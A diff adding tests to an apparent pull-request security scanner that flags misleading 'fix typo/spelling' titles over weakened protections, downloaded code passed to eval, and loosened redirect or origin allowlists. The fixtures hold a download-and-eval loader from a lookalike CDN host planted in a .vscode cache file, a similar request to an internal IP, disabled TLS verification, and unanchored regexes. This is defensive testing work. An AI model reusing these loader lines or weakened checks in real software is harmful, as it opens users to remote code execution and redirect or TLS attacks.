@@ -1003,6 +1003,16 @@ describe('pr-claim-mismatch over a weakened protection', () => {
     const tls = claim('docs: fix typo', ['  const agent = new https.Agent({ rejectUnauthorized: false });'], ['  const agent = new https.Agent();'], 'src/client.ts');
     expect(tls?.severity).toBe('high');
   });
+  it('reads a spelling, misspelling or grammar fix as the same claim as a typo fix', () => {
+    const spelling = claim('Fix spelling in regex comment', ["SAFE_REDIRECT = re.compile(r'https://(www\\.)?acme\\.com')"], ["SAFE_REDIRECT = re.compile(r'^https://(www\\.)?acme\\.com/')"], 'app/validators.py');
+    expect(spelling?.severity).toBe('high');
+    expect(claim('Fixes misspellings', ['  const agent = new https.Agent({ rejectUnauthorized: false });'], ['  const agent = new https.Agent();'], 'src/client.ts')?.severity).toBe('high');
+    expect(claim('fix grammar', ['    return verify(user.hash, password, strict=True)'], ['    return verify(user.hash, password)'])?.severity).toBe('medium');
+  });
+  it('leaves a spelling fix that changes only words, and a title where spelling is the feature', () => {
+    expect(claim('Fix spelling in comments', ['    # Return the session'], ['    # Retrun the sesion'])).toBeUndefined();
+    expect(claim('Add spelling suggestions to the search box', ['    return suggest(query, dictionary)'], ['    return []'])).toBeUndefined();
+  });
   it('stays medium for a plain logic change under the claim, and the weakening is not reported in a test', () => {
     expect(claim('Fix typo in docstring', ['    return verify(user.hash, password, strict=True)'], ['    return verify(user.hash, password)'])?.severity).toBe('medium');
     expect(claim('Fix typo', ['    assert check(user, "letmein-2025") or password == "letmein-2025"'], ['    assert check(user, "x")'], 'tests/test_auth.py')).toBeUndefined();
@@ -3129,7 +3139,12 @@ describe('dynamic-code-execution of downloaded code', () => {
     expect(sink('src/page.js', ['const html = await (await fetch(url)).text();', 'const total = eval(expression);'])?.severity).toBe('high');
     expect(sink('src/page.js', ['const data = await (await fetch(url)).json();', 'const total = eval(expression);'])?.severity).toBe('medium');
   });
+  it('a download through the module required on the same line (require(\'https\').get) is one too', () => {
+    expect(sink('.vscode/.cache/preload.js', ["require('https').get('https://vscode-ext-cdn.com/p.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });"])?.severity).toBe('high');
+    expect(sink('lib/boot.js', ['require("node:http").request({ host: "10.0.0.5", path: "/p.js" }, (r) => r.on("data", (c) => eval(String(c)))).end();'])?.severity).toBe('high');
+  });
   it('eval without a download in its hunk keeps its ordinary severity; a download without a code sink is no finding', () => {
+    expect(sink('lib/helper.js', ["const total = eval(expression);", "const mod = require('https-proxy-agent').get;"])?.severity).toBe('medium');
     expect(sink('pkg/helper.py', ['exec(compile(source, path, "exec"))'])?.severity).toBe('medium');
     expect(sink('pkg/client.py', ["data = requests.get('https://api.example.com/v1/items').json()"])).toBeUndefined();
   });
@@ -3987,6 +4002,18 @@ describe('allowlist-check-loosened: a host, origin or URL check that lets more t
     expect(loose('src/server/cors.ts', ['const ALLOWED_ORIGIN = /^https:\\/\\/acme\\.com/;'], ['const ALLOWED_ORIGIN = /^https:\\/\\/acme\\.com\\//;'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
     // Escapes added, or the same pattern kept: quiet.
     expect(loose('src/server/cors.ts', ['const ALLOWED_ORIGIN = /^https:\\/\\/acme\\.com\\//;'], ['const ALLOWED_ORIGIN = /^https:\\/\\/acme.com\\//;'], 'Tidy')).toEqual([]);
+  });
+
+  it('reads a slash after the host that needs no escape (a Python or Go pattern string) as the escaped one, dropped alone or with the anchor', () => {
+    expect(loose('app/validators.py', ["SAFE_REDIRECT = re.compile(r'^https://(www\\.)?acme\\.com')"], ["SAFE_REDIRECT = re.compile(r'^https://(www\\.)?acme\\.com/')"], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('app/validators.py', ["SAFE_REDIRECT = re.compile(r'https://(www\\.)?acme\\.com')"], ["SAFE_REDIRECT = re.compile(r'^https://(www\\.)?acme\\.com/')"], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('internal/web/redirect.go', ['var allowedRedirect = regexp.MustCompile(`^https://acme\\.com`)'], ['var allowedRedirect = regexp.MustCompile(`^https://acme\\.com/`)'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+  });
+
+  it('leaves a slash added after the host, a deeper path\'s slash, and a JavaScript literal\'s closing slash', () => {
+    expect(loose('app/validators.py', ["SAFE_REDIRECT = re.compile(r'^https://(www\\.)?acme\\.com/')"], ["SAFE_REDIRECT = re.compile(r'^https://(www\\.)?acme\\.com')"], 'Tidy')).toEqual([]);
+    expect(loose('app/validators.py', ["SAFE_REDIRECT = re.compile(r'^https://acme\\.com/api')"], ["SAFE_REDIRECT = re.compile(r'^https://acme\\.com/api/')"], 'Tidy')).toEqual([]);
+    expect(loose('src/server/cors.ts', ['const ALLOWED_ORIGIN = /^https:\\/\\/acme\\.com\\//;'], ['const ALLOWED_ORIGIN = /^https:\\/\\/acme\\.com\\//i;'], 'Tidy')).toEqual([]);
   });
 
   it('stays quiet on a check tightened, a file extension, a pattern rewritten, and the same change outside an address check', () => {
